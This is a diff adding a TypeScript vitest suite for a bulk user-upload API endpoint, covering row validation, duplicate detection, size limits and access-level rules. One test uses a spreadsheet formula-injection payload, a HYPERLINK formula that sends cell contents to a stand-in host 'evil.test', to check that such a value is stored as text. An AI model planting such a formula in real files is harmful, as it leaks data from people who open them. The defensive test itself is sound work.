@@ -1,0 +1,136 @@
+/** POST /api/users/bulk: the batch upload (spec 001 §2, §4, §5). */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { BATCH_MAX_BYTES, BATCH_MAX_ROWS, normaliseSheet, validBatchRows } from "../../../core/batch-users";
+import { LEVEL_ABOVE_OWN } from "../../../core/schemas/users";
+import { allUsers } from "../../test/db-state";
+import { createTestApp, type TestApp } from "../../test/harness";
+import { BULK_EMPTY } from "./bulk";
+import { findUserById, findUserByUsername } from "./repo";
+import { usersTestKit } from "./users-test-kit";
+
+let t: TestApp;
+beforeAll(async () => {
+  t = await createTestApp();
+});
+afterAll(() => t?.close());
+const kit = usersTestKit(() => t);
+
+const bulk = (session: string, users: unknown) =>
+  t.request({ method: "POST", url: "/api/users/bulk", body: { users }, session });
+
+describe("POST /api/users/bulk", () => {
+  it("creates valid rows with cards and reports why the others were not created", async () => {
+    const admin = await kit.signedIn(4);
+    const existing = await t.createUser();
+    const existingCard = await kit.cardOf(existing);
+    const ok1 = kit.newUserBody({ accessLevel: "2", cardSlug: t.uniqueName("bulk-slug") });
+    const ok2 = kit.newUserBody({ accessLevel: undefined, cardSlug: "" });
+    const rows = [
+      ok1,
+      ok2,
+      kit.newUserBody({ username: ok1.username.toUpperCase() }),
+      kit.newUserBody({ username: existing.user.username }),
+      kit.newUserBody({ email: existing.user.email }),
+      kit.newUserBody({ cardSlug: existingCard.slug }),
+      kit.newUserBody({ email: "no-at-sign" }),
+      kit.newUserBody({ accessLevel: 5 }),
+      kit.newUserBody({ username: "ab", password: "123" }),
+    ];
+    const response = await bulk(admin.session, rows);
+    expect(response.statusCode).toBe(200);
+    const body = response.json();
+    expect(body.created).toBe(2);
+    expect(body.skipped).toBe(7);
+    expect(body.results.map((r: { status: string; reason?: string }) => r.reason ?? r.status)).toEqual([
+      "created",
+      "created",
+      "duplicate_in_file",
+      "username_taken",
+      "email_taken",
+      "slug_taken",
+      "invalid",
+      "level_not_allowed",
+      "invalid",
+    ]);
+    expect(body.results[6].message).toBe("Invalid email format");
+    expect(body.results[7].message).toBe(LEVEL_ABOVE_OWN);
+    expect(body.results[8].message).toBe(
+      "Username must be at least 3 characters, Password must be at least 6 characters",
+    );
+    expect(body.results[0]).toMatchObject({ index: 0, status: "created", cardSlug: ok1.cardSlug });
+
+    const one = await findUserByUsername(t.db, ok1.username);
+    expect(one).toMatchObject({ accessLevel: 2, email: ok1.email, fullName: ok1.fullName });
+    expect((await kit.cardsOf(one!.id)).map((c) => c.slug)).toEqual([ok1.cardSlug]);
+    const two = await findUserByUsername(t.db, ok2.username);
+    expect(two?.accessLevel).toBe(1);
+    expect((await kit.cardsOf(two!.id))[0]?.slug).toMatch(new RegExp(`^${ok2.username}-\\d{1,4}$`));
+    await t.signIn(ok1.username, ok1.password);
+  });
+
+  it("keeps a formula-injection cell as text", async () => {
+    const admin = await kit.signedIn(5);
+    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")';
+    const row = kit.newUserBody({ fullName: formula });
+    const response = await bulk(admin.session, [row]);
+    expect(response.json().created).toBe(1);
+    const stored = await findUserByUsername(t.db, row.username);
+    expect(stored?.fullName).toBe(formula);
+    const list = await t.request({
+      method: "GET",
+      url: `/api/users?search=${row.username}`,
+      session: admin.session,
+    });
+    expect(list.json()[0].fullName).toBe(formula);
+  });
+
+  it("rows from a sheet with missing headers never get as far as the request", () => {
+    const sheet = normaliseSheet([{ user: "alice", mail: "a@b.co" }]);
+    expect(sheet.error).toMatch(/header row/);
+    expect(validBatchRows(sheet.rows)).toEqual([]);
+    const partial = normaliseSheet([{ username: "alice", email: "a@b.co", fullName: "Alice" }]);
+    expect(partial.error).toMatch(/^Missing required column: password\./);
+  });
+
+  it("refuses an empty list, a non-list, 5,001 rows and an oversized body before any work", async () => {
+    const admin = await kit.signedIn(4);
+    const before = await allUsers(t.db);
+    const empty = await bulk(admin.session, []);
+    expect(empty.statusCode).toBe(400);
+    expect(empty.json().message).toBe(BULK_EMPTY);
+    expect((await bulk(admin.session, "nope")).statusCode).toBe(400);
+
+    const rows = Array.from({ length: BATCH_MAX_ROWS + 1 }, (_, i) => ({
+      username: `many${i}`,
+      fullName: "Many Rows",
+      email: `many${i}@example.test`,
+      password: "secret-pw",
+    }));
+    const tooMany = await bulk(admin.session, rows);
+    expect(tooMany.statusCode).toBe(400);
+    expect(tooMany.json().message).toBe("The file has 5,001 users; at most 5,000 can be uploaded at once.");
+
+    const huge = await bulk(admin.session, [{ ...rows[0], fullName: "x".repeat(BATCH_MAX_BYTES) }]);
+    expect(huge.statusCode).toBe(413);
+    expect(huge.json().message).toBe("The request body is too large.");
+    expect(await allUsers(t.db)).toEqual(before);
+  });
+
+  it("imports nothing when a level-4 admin sends only level-5 rows", async () => {
+    const admin = await kit.signedIn(4);
+    const row = kit.newUserBody({ accessLevel: 5 });
+    const response = await bulk(admin.session, [row]);
+    expect(response.json()).toMatchObject({ created: 0, skipped: 1 });
+    expect(await findUserByUsername(t.db, row.username)).toBeUndefined();
+  });
+
+  it("imports a few hundred rows in one go", async () => {
+    const admin = await kit.signedIn(5);
+    const rows = Array.from({ length: 300 }, () => kit.newUserBody());
+    const response = await bulk(admin.session, rows);
+    expect(response.json().created).toBe(300);
+    const ids = response.json().results.map((r: { id: number }) => r.id);
+    const last = await findUserById(t.db, ids[299]);
+    expect(last?.username).toBe(rows[299]!.username);
+  });
+});
